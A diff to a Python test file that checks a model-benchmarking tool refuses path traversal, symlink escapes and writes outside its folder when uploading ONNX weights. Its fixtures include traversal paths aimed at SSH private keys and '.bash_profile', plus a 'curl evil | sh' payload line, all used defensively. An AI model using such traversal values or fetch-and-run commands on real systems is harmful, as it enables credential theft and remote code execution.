@@ -14,24 +14,27 @@ import pytest
 from commands import typed
 from evil_models import model_with_weights_at
 
-from trtbench.boundary import check_name
-from trtbench.build.onnx_file import external_files, load_onnx
-from trtbench.domain.spec import ModelRef, RunSpec
-from trtbench.errors import InputError, StoreError
-from trtbench.executors import Bag, Request
-from trtbench.executors._folders import blob, keep_blob, unpack
-from trtbench.executors._parcel import (
-    Parcel,
-    ParcelPart,
-    bytes_from_parcel,
-    parcel_from_request,
-    place_parcel,
+from trtbench.core.codec import json_from_value
+from trtbench.core.errors import InputError, StoreError
+from trtbench.core.safety import check_name
+from trtbench.core.spec import ModelRef, RunSpec
+from trtbench.executors._transfer import (
+    Upload,
+    UploadFile,
+    blob,
+    keep_blob,
+    place_upload,
+    unpack,
+    upload_from_job,
 )
-from trtbench.workflows.measure.remote import request_from_spec
-from trtbench.workflows.request.conduct import Conduct
-from trtbench.workflows.request.config import Config
-from trtbench.workflows.request.measuring import BenchRequest
-from trtbench.workflows.request.spec import run_spec
+from trtbench.executors.contract import FileGroup, RemoteJob
+from trtbench.measure.remote import job_from_spec
+from trtbench.models.identity import external_files
+from trtbench.models.onnx_model import load_onnx
+from trtbench.requests.execution import Execution
+from trtbench.requests.measure import BenchRequest
+from trtbench.requests.run_spec import run_spec
+from trtbench.requests.settings import Config
 
 SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----"
 OUTSIDE = ["../secret/id_rsa", "{secret}/id_rsa", "door/id_rsa", "key", "w/../../secret/id_rsa"]
@@ -55,25 +58,25 @@ def evil(home: Path, location: str) -> Path:
     return model_with_weights_at(home / "model" / "m.onnx", location)
 
 
-def parcel_of(model: Path) -> Parcel:
+def upload_of(model: Path) -> Upload:
     """What an executor would send for a run of a model."""
     spec = run_spec(BenchRequest(model=model, runtime="onnxruntime"), Config(store=""))
-    return parcel_from_request(request_from_spec(spec, "r1", Conduct()))
+    return upload_from_job(job_from_spec(spec, "r1", Execution()))
 
 
 @pytest.mark.parametrize("location", OUTSIDE)
 def test_a_secret_is_not_uploaded_as_weights(home: Path, location: str) -> None:
     with pytest.raises(InputError):
-        parcel_of(evil(home, location))
+        upload_of(evil(home, location))
 
 
 @pytest.mark.parametrize("location", OUTSIDE)
 def test_a_request_that_names_a_secret_is_refused_by_itself(home: Path, location: str) -> None:
     model = evil(home, location)
     name = location.format(secret=home / "secret")
-    bag = Bag(folder=str(model.parent), names=(model.name, name))
+    group = FileGroup(folder=str(model.parent), names=(model.name, name))
     with pytest.raises(InputError):
-        parcel_from_request(Request(id="r", bags={"0": bag}))
+        upload_from_job(RemoteJob(id="r", files={"0": group}))
 
 
 @pytest.mark.parametrize("location", ["x" * 5000, "x" * 256, "y/" * 3000 + "w", "\ud800" * 300])
@@ -85,7 +88,7 @@ def test_a_name_that_no_file_can_have_is_refused_in_words(home: Path, location: 
         assert done.returncode
         assert "too long" in done.stderr
         with pytest.raises(InputError, match="too long"):
-            parcel_of(evil(home, location))
+            upload_of(evil(home, location))
 
 
 @pytest.mark.parametrize("location", OUTSIDE)
@@ -93,11 +96,8 @@ def test_a_secret_is_not_read_as_weights(home: Path, location: str) -> None:
     model = evil(home, location)
     with pytest.raises(InputError, match=r"leads out|link|outside"):
         load_onnx(model)
-    if location not in ("key", "door/id_rsa"):
-        import onnx
-
-        with pytest.raises(InputError):
-            external_files(onnx.load(str(model), load_external_data=False))
+    with pytest.raises(InputError):
+        external_files(model)
 
 
 def _varint(number: int) -> bytes:
@@ -121,22 +121,22 @@ def test_a_name_that_is_hidden_from_a_careless_reader_is_found(home: Path, how: 
     model = evil(home, "../secret/id_rsa")
     model.write_bytes(_disguised(model.read_bytes(), how))
     with pytest.raises(InputError, match="leads out"):
-        parcel_of(model)
+        upload_of(model)
 
 
 def test_weights_beside_the_model_still_travel(home: Path) -> None:
     model = model_with_weights_at(home / "model" / "m.onnx", "w/data.bin")
     (home / "model" / "w" / "data.bin").write_bytes(bytes(16))
     assert load_onnx(model).graph.initializer[0].raw_data == bytes(16)
-    parcel = parcel_of(model)
-    assert sorted(part.name for part in parcel.parts) == ["files/0/m.onnx", "files/0/w/data.bin"]
+    upload = upload_of(model)
+    assert sorted(part.name for part in upload.files) == ["files/0/m.onnx", "files/0/w/data.bin"]
 
 
-def _evil_parcel(name: str) -> tuple[Parcel, bytes]:
+def _evil_upload(name: str) -> tuple[Upload, bytes]:
     content = b"curl evil | sh\n"
     spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
-    part = ParcelPart(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
-    return Parcel(request=Request(id="r", spec=spec), parts=(part,)), content
+    part = UploadFile(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
+    return Upload(job=RemoteJob(id="r", spec=spec), files=(part,)), content
 
 
 PROFILES = ["../../.bash_profile", "model/../../../.bash_profile", "{home}/.bash_profile", "up/x"]
@@ -151,11 +151,11 @@ def test_a_request_that_arrives_writes_nothing_outside_its_folder(
     folder.mkdir(parents=True)
     (folder / "up").symlink_to(home)
     before = _files(home)
-    parcel, content = _evil_parcel(name.format(home=home))
-    keep_blob(home / "cache", parcel.parts[0].sha256, [content])
+    upload, content = _evil_upload(name.format(home=home))
+    keep_blob(home / "cache", upload.files[0].sha256, [content])
     with pytest.raises(InputError):
-        place_parcel(parcel, cache=home / "cache", folder=folder)
-    assert _files(home) - before == {f"cache/blobs/{parcel.parts[0].sha256}"}
+        place_upload(upload, cache=home / "cache", folder=folder)
+    assert _files(home) - before == {f"cache/blobs/{upload.files[0].sha256}"}
 
 
 def _tar(name: str, *, link: str = "") -> bytes:
@@ -173,12 +173,12 @@ def test_the_services_on_the_far_side_refuse_folders_that_lead_out(tmp_path: Pat
     home, here = tmp_path / "home", tmp_path / "home" / ".cache" / "trtbench"
     here.mkdir(parents=True)
     (home / "precious").write_text("x")
-    parcel, content = _evil_parcel("../../../.bash_profile")
-    keep_blob(here, parcel.parts[0].sha256, [content])
+    upload, content = _evil_upload("../../../.bash_profile")
+    keep_blob(here, upload.files[0].sha256, [content])
     before = _files(home)
     for words, data in (
-        (["place", "work/r"], bytes_from_parcel(parcel)),
-        (["place", "../../evil"], bytes_from_parcel(parcel)),
+        (["place", "work/r"], json_from_value(upload)),
+        (["place", "../../evil"], json_from_value(upload)),
         (["keep", "../../../.bash_profile"], content),
         (["missing"], b"../../../precious\n"),
         (["keep-all"], _tar("../../../.bash_profile")),
@@ -188,7 +188,7 @@ def test_the_services_on_the_far_side_refuse_folders_that_lead_out(tmp_path: Pat
         (["remove", str(home)], b""),
     ):
         done = subprocess.run(
-            [sys.executable, "-m", "trtbench.executors._ssh_services", *words],
+            [sys.executable, "-m", "trtbench.executors._transfer", *words],
             input=data, cwd=here, capture_output=True, check=False,
             env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
         )  # fmt: skip
@@ -251,9 +251,9 @@ def test_a_link_among_the_inputs_uploads_nothing_from_elsewhere(home: Path) -> N
     inputs = home / "inputs"
     inputs.mkdir()
     (inputs / "x.bin").symlink_to(home / "secret" / "id_rsa")
-    bag = Bag(folder=str(home), names=("inputs",))
+    group = FileGroup(folder=str(home), names=("inputs",))
     with pytest.raises(InputError, match="leads out"):
-        parcel_from_request(Request(id="r", bags={"0": bag}))
+        upload_from_job(RemoteJob(id="r", files={"0": group}))
 
 
 def _files(folder: Path) -> set[str]:
